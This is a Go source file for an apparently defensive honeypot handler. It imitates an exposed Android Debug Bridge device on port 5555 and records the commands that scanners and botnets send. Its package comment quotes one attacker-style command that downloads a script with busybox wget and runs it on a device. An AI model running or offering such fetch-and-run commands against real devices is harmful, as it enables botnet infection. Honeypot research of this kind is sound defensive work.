// Package adb engages scanners of exposed Android Debug Bridge daemons
// (TCP 5555), the entry point of ADB.Miner and the Mirai and Hajime
// variants that push shell one-liners to set-top boxes and phones. It reads
// the host's CNXN, answers with a device CNXN without asking for AUTH, and
// records the services the host then opens, such as
// "shell:cd /data/local/tmp; busybox wget http://...; sh x.sh".
//
// Ports: 5555 (Ports). Content: a CNXN message from any port (Match).
//
// Session fields: app_proto "adb"; the "adb" object is Detail:
// {"version": N, "maxdata": N, "banner": "host::features=...",
// "services": ["shell:..."], "writes": ["..."], "truncated": bool}:
// the host's protocol version, maximum message size and banner, the
// services of its OPEN messages, and the data it wrote to interactive
// shells ("shell:" with no command), in order; truncated says a cap cut
// something.
//
// Budgets: one message's data may be at most 256 KiB (ADB's own maximum),
// and the device CNXN asks for at most 4 KiB; at most MaxMessages (64)
// messages are read; at most MaxServices (32) services and as many writes
// are recorded, each cut to MaxRecordBytes (1 KiB), the banner too. The
// handler waits ReadTimeout (10 s) for each message. The Mux's idle, total
// and byte budgets apply on top. The connection always ends with a reset.
package adb

import (
	"bytes"
	"encoding/binary"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
)

// Name is the handler's app_proto and detail key.
const Name = "adb"

// Ports are the ports the handler usually serves.
var Ports = []uint16{5555}

// DefaultBanner is the device banner of Config's zero value: an Android
// emulator image, as often found exposed, without the shell_v2 feature so
// that hosts open plain "shell:COMMAND" services.
const DefaultBanner = "device::ro.product.name=sdk_phone_x86;ro.product.model=Android SDK built for x86;" +
	"ro.product.device=generic_x86;features=cmd,stat_v2"

// Defaults of Config's zero values.
const (
	DefaultMaxMessages    = 64
	DefaultMaxServices    = 32
	DefaultMaxRecordBytes = 1024
	DefaultReadTimeout    = 10 * time.Second
)

// Protocol limits that are not configurable.
const (
	// maxDataBytes caps the data of one message read: ADB's MAX_PAYLOAD.
	maxDataBytes = 256 << 10
	// deviceMaxData is the maxdata of the device CNXN: hosts send no more
	// per message (adb's legacy MAX_PAYLOAD_V1).
	deviceMaxData = 4096
)

// Config tunes the handler; zero values mean the defaults.
type Config struct {
	// Banner is the data of the device CNXN ("device::PROPS;features=...").
	Banner string
	// MaxMessages caps the messages read per connection, CNXN included.
	MaxMessages int
	// MaxServices caps the services recorded, and the writes.
	MaxServices int
	// MaxRecordBytes caps each recorded service, write and the banner.
	MaxRecordBytes int
	// ReadTimeout is how long the handler waits for each message.
	ReadTimeout time.Duration
}

// Handler is the adb handler. It is safe for concurrent use.
type Handler struct {
	banner                                   []byte
	maxMessages, maxServices, maxRecordBytes int
	readTimeout                              time.Duration
}

var _ handlers.Handler = (*Handler)(nil)

// New returns an adb Handler configured by cfg. Negative values count as
// zero.
func New(cfg Config) *Handler {
	h := &Handler{
		banner: []byte(cfg.Banner), maxMessages: cfg.MaxMessages, maxServices: cfg.MaxServices,
		maxRecordBytes: cfg.MaxRecordBytes, readTimeout: cfg.ReadTimeout,
	}
	if len(h.banner) == 0 {
		h.banner = []byte(DefaultBanner)
	}
	h.maxMessages = handlers.OrDefault(h.maxMessages, DefaultMaxMessages)
	h.maxServices = handlers.OrDefault(h.maxServices, DefaultMaxServices)
	h.maxRecordBytes = handlers.OrDefault(h.maxRecordBytes, DefaultMaxRecordBytes)
	h.readTimeout = handlers.OrDefault(h.readTimeout, DefaultReadTimeout)
	return h
}

// Name implements handlers.Handler.
func (h *Handler) Name() string { return Name }

// Match is the handler's handlers.Matcher.Content: a CNXN message, whose
// magic, if the header is whole, is the command's complement.
func Match(first []byte) bool {
	if !bytes.HasPrefix(first, []byte("CNXN")) {
		return false
	}
	return len(first) < headerBytes || binary.LittleEndian.Uint32(first[20:]) == ^uint32(CmdCNXN)
}
